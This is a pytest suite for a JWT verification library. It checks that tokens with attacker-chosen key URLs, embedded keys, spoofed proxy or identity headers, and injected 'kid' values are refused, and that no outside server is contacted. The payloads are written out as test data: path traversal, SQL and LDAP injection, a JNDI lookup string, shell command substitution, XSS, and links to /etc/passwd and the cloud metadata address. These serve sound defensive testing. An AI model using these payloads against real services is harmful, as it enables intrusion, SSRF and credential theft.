"""RFC 8725, section 3.10: nothing received is trusted: no key, no location, no name, no forwarded address."""

from __future__ import annotations

import dataclasses
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from jwtguard import Mode, Reason
from jwtguard.core.events import Event, printable
from jwtguard.reporting import Reporter
from tests.attacks.target import KEY, REPORTS, Target, fetching_target, issuer_of, signed
from tests.kit.canary import Canary
from tests.kit.fake_idp import FakeIdP
from tests.kit.forged_key import ForgedKey, b64
from tests.kit.guarded import FORGE, bearer
from tests.kit.token_forge import OMIT, TokenForge

STRANGER = ForgedKey("ES256", "k1", FORGE.key("ES256", "stranger").private)
Lure = Callable[[str], dict[str, object]]
LURES: dict[str, Lure] = {
    "jku": lambda url: {"jku": url},
    "x5u": lambda url: {"x5u": url},
    "jku-list": lambda url: {"jku": [url]},
    "jku-object": lambda url: {"jku": {"url": url}},
    "jku-null": lambda url: {"jku": None, "x5u": url},
    "jku-empty": lambda _: {"jku": ""},
    "jku-and-x5u": lambda url: {"jku": url, "x5u": url},
    "jku-escaped": lambda url: {"jku": url.replace("http", "HTTP")},
    "jku-file": lambda _: {"jku": "file:///etc/passwd"},
    "jku-metadata": lambda _: {"jku": "http://169.254.169.254/latest/meta-data/"},
    "x5c": lambda _: {"x5c": ["MIIB"]},
    "x5c-empty": lambda _: {"x5c": []},
    "x5c-null": lambda _: {"x5c": None},
    "jwk": lambda _: {"jwk": STRANGER.public_jwk()},
    "jwk-ours": lambda _: {"jwk": KEY.public_jwk()},
    "jwk-null": lambda _: {"jwk": None},
    "jwk-url": lambda url: {"jwk": url},
    "jwk-false": lambda _: {"jwk": False},
}
KIDS = [
    "../../../../dev/null", "/dev/null", "..\\..\\windows\\win.ini", "k1/../k1", "file:///dev/null", "k1%00", "k1%0a",
    "' OR '1'='1", "k1' UNION SELECT 'secret'--", '"; DROP TABLE keys; --', "*)(uid=*))(|(uid=*",
    "${jndi:ldap://x/a}",
    "{{7*7}}", "$(id)", "`id`", "| id", "K1", "k1 ", " k1", "k\u0131", "\uff4b1", "k1,k2", "k", "k11", "null",
    "undefined",
    "__proto__", "<script>alert(1)</script>", "%n%s", "a" * 256,
]  # fmt: skip
MISSHAPEN_KIDS: list[object] = [
    None, "", 1, 0, True, False, [], ["k1"], {}, {"kid": "k1"}, 1.5, "a" * 257, "k1\n", "k1\r\nX: y", "k1\0",
    "\x1b[31mk1",
    "k1\x7f", "k\u200b1", "\u202ek1", "k1\u00a0",
]  # fmt: skip


@pytest.fixture
def canary() -> Iterator[Canary]:
    """A server that nobody may contact."""
    with Canary() as server:
        yield server


@pytest.fixture
def idp() -> Iterator[FakeIdP]:
    """The issuer's own key server, so that there is a fetch to steer."""
    with FakeIdP() as server:
        yield server


def warm_target(idp: FakeIdP) -> Target:
    """A target that has fetched its keys once, long enough ago that an unknown kid may cause another fetch."""
    idp.set_keys([KEY.public_jwk()])
    target = fetching_target(idp)
    target.lets_in(signed(forge=TokenForge(idp.issuer)))
    target.clock.advance(31)
    return target


@pytest.mark.parametrize("lure", LURES)
def test_keys_and_their_places_in_the_header(lure: str, canary: Canary, idp: FakeIdP) -> None:
    """R-HDR-02, R-HDR-03, F24, F55: key material and locations in a header are refused, and nobody goes there."""
    forge = TokenForge(idp.issuer)
    target = warm_target(idp)
    header = LURES[lure](canary.url)
    for key in (STRANGER, KEY):
        target.refuses(signed(header=header, key=key, forge=forge), Reason.BAD_HEADER)
        target.refuses(signed(header={**header, "kid": "unknown"}, key=key, forge=forge), Reason.BAD_HEADER)
        target.refuses(signed(header={**header, "kid": OMIT}, key=key, forge=forge), Reason.BAD_HEADER)
    idp.settle()
    assert len(idp.requests) == 1, "not even the issuer is asked, for a header that is refused"
    canary.assert_untouched()


def test_a_declared_url_is_still_not_fetched(canary: Canary) -> None:
    """R-HDR-02: the one ``jku`` that the issuer declares is tolerated, and the keys come from where they always do."""
    target = Target(issuers=[issuer_of(KEY, key_urls=(canary.url,))])
    target.lets_in(signed(header={"jku": canary.url}))
    target.refuses(signed(header={"jku": canary.url}, key=STRANGER), Reason.BAD_SIGNATURE)
    for other in (canary.url + "/", canary.url.upper(), canary.url + "?", [canary.url], canary.url + "#x", None):
        target.refuses(signed(header={"jku": other}), Reason.BAD_HEADER)
    target.refuses(signed(header={"jku": canary.url, "x5u": "https://evil.example/"}), Reason.BAD_HEADER)
    canary.assert_untouched()


@pytest.mark.parametrize("kid", KIDS)
def test_kids_that_would_be_more_than_names(kid: str) -> None:
    """R-HDR-04, F24: a ``kid`` is looked up as it stands, and an injection in one finds no key."""
    target = Target()
    target.refuses(signed(header={"kid": kid}), Reason.NO_KEY)
    empty = ForgedKey("HS256", kid, b"")
    target.refuses(FORGE.sign(FORGE.access_claims(), key=empty), Reason.UNSUPPORTED_ALG)


@pytest.mark.parametrize("kid", MISSHAPEN_KIDS, ids=repr)
def test_kids_that_are_no_names(kid: object) -> None:
    """R-HDR-04, F24: 1 to 256 printable characters, else the header is bad; null is not absent."""
    Target().refuses(signed(header={"kid": kid}), Reason.BAD_HEADER)


def test_a_kid_reaches_the_issuer_as_nothing(canary: Canary, idp: FakeIdP) -> None:
    """R-HDR-04, F24: an unknown kid may cause one fetch, of the configured URL, and is no part of the request."""
    forge = TokenForge(idp.issuer)
    idp.set_keys([KEY.public_jwk()])
    target = fetching_target(idp)
    for kid in (canary.url, "../keys", "?x=1", "a b", "#"):
        target.refuses(signed(header={"kid": kid}, forge=forge), Reason.NO_KEY)
        target.clock.advance(31)
    assert {(seen.method, seen.path) for seen in idp.requests} == {("GET", "/jwks.json")}
    assert not [seen for seen in idp.requests if "a b" in repr(seen) or "keys?" in repr(seen)]
    canary.assert_untouched()


@pytest.mark.parametrize("count", [2, 0])
def test_without_kid_one_key_must_fit(count: int) -> None:
    """R-HDR-05, F22: a token without ``kid`` is refused where several keys could have signed it."""
    keys = [FORGE.key("ES256", f"k{number}") for number in range(count)] or [FORGE.key("RS256")]
    target = Target(issuers=[issuer_of(*keys, algorithms=("ES256", "RS256"))])
    for key in (*keys, STRANGER):
        if key.alg == "ES256":
            target.refuses(signed(key=key, header={"kid": OMIT}), Reason.NO_KEY)


def test_two_keys_under_one_kid() -> None:
    """R-JWK-14, F22: neither the first nor the last of two keys under one kid serves; the others do."""
    one, two, good = FORGE.key("ES256", "a"), FORGE.key("ES256", "b"), FORGE.key("ES256", "good")
    same = [dataclasses.replace(key, kid="same") for key in (one, two)]
    target = Target(issuers=[issuer_of(*same, good)])
    for key in same:
        target.refuses(signed(key=key), Reason.NO_KEY)
    target.lets_in(signed(key=good))


def test_an_issuer_that_points_at_the_attacker(canary: Canary, idp: FakeIdP) -> None:
    """F24: ``iss`` selects among configured issuers; another one is refused, and its metadata is not looked for."""
    target = warm_target(idp)
    for iss in (canary.url, canary.url.removesuffix("/canary"), f"{idp.issuer}@127.0.0.1:{canary.port}"):
        target.refuses(signed(iss=iss, key=STRANGER), Reason.BAD_ISSUER)
    idp.settle()
    assert len(idp.requests) == 1
    canary.assert_untouched()


def test_urls_in_claims_are_not_followed(canary: Canary) -> None:
    """R-CLM-13, F24: a verified token may hold URLs; nobody opens them."""
    claims: dict[str, Any] = dict.fromkeys(
        ("website", "picture", "profile", "jwks_uri", "request_uri", "x5u", "jku"), canary.url
    )
    target = Target()
    target.lets_in(signed(**claims, _claim_sources={"src1": {"endpoint": canary.url}}))
    target.refuses(
        signed(status={"status_list": {"idx": 0, "uri": canary.url}}, status_list=canary.url), Reason.WRONG_CLASS
    )
    canary.assert_untouched()


FORWARDING = [
    (b"x-forwarded-proto", b"https"), (b"forwarded", b"proto=https;host=localhost"),
    (b"x-forwarded-host", b"localhost"),
    (b"x-forwarded-for", b"127.0.0.1"), (b"host", b"localhost"), (b"x-forwarded-ssl", b"on"),
    (b"front-end-https", b"on"),
    (b"x-url-scheme", b"https"), (b":scheme", b"https"), (b"x-real-ip", b"127.0.0.1"),
]  # fmt: skip


@pytest.mark.parametrize("field", FORWARDING, ids=repr)
@pytest.mark.parametrize("mode", list(Mode))
def test_headers_that_claim_a_safe_way(field: tuple[bytes, bytes], mode: Mode) -> None:
    """R-EXT-09, R-EXT-10, F59: plain http stays plain http, whatever the request says about proxies and hosts."""
    target = Target(mode=mode)
    target.refuses_request([bearer(signed()), field], Reason.INSECURE_TRANSPORT, scheme="http")


@pytest.mark.parametrize(
    "server", ["127.evil.example", "127.0.0.1.evil.example", "localhost.evil.example", "", "192.0.2.1"]
)
def test_hosts_that_only_look_local(server: str) -> None:
    """R-EXT-09: the loopback exemption of development is for loopback, not for names that begin like it."""
    target = Target(mode=Mode.DEVELOPMENT)
    target.refuses_request([bearer(signed())], Reason.INSECURE_TRANSPORT, scheme="http", server=(server, 80))


FOREIGN_IDENTITY = [
    (b"x-forwarded-user", b"root"), (b"x_forwarded_user", b"root"), (b"remote-user", b"root"), (b"x-user", b"root"),
    (b"x-authenticated-userid", b"root"), (b"x-jwt-payload", b64(b'{"sub":"root"}')), (b"x-amzn-oidc-data", signed()),
    (b"x-goog-iap-jwt-assertion", signed()), (b"proxy-authorization", b"Bearer " + signed()),
    (b"cookie", b"token=" + signed()),
    (b"x-original-authorization", b"Bearer " + signed()), (b"connection", b"authorization"),
]  # fmt: skip


@pytest.mark.parametrize("field", FOREIGN_IDENTITY, ids=lambda field: field[0].decode())
def test_identities_from_undeclared_places(field: tuple[bytes, bytes]) -> None:
    """R-EXT-01, F59: who the caller is comes from the declared carrier; a good token elsewhere is no credential."""
    target = Target()
    target.refuses_request([field], Reason.MISSING_TOKEN)
    target.refuses_request([field, (b"authorization", b"Bearer a.b.c")], Reason.MALFORMED)


def test_tokens_in_the_query_and_in_the_path() -> None:
    """R-EXT-04: a token in the URL is no credential, under any of its usual names."""
    target = Target()
    for name in (b"access_token", b"token", b"jwt", b"id_token", b"authorization"):
        target.refuses_request([], Reason.MISSING_TOKEN, query_string=name + b"=" + signed())


def test_what_the_attacker_wrote_is_in_no_event() -> None:
    """R-OBS-04, F24: events hold configured names and closed words; foreign text is cut and stripped of controls."""
    target = Target()
    marks = ["kid-\u2028-mark", "EVIL\r\nfake log line", "\x1b[2J"]
    for mark in marks:
        for forged in (
            signed(header={"kid": mark}),
            signed(iss=mark),
            signed(aud=mark),
            signed(scope=mark),
            signed(jti=mark),
        ):
            target.send([bearer(forged)])
    assert not [mark for mark in marks for event in target.events if mark in repr(event)]
    assert printable("a\r\nb\x1b\u2028c") == "a??b??c"
    assert len(printable("x" * 1000)) == 64


def test_the_sink_sees_a_decision_for_every_attack() -> None:
    """R-OBS-01: no refusal of this file goes unreported."""
    seen: list[Event] = []
    target = Target(REPORTS)
    target.guard._reporter = Reporter(seen.append)
    for lure in LURES.values():
        target.send([bearer(signed(header=lure("https://evil.example/")))])
    assert len(seen) == len(LURES)
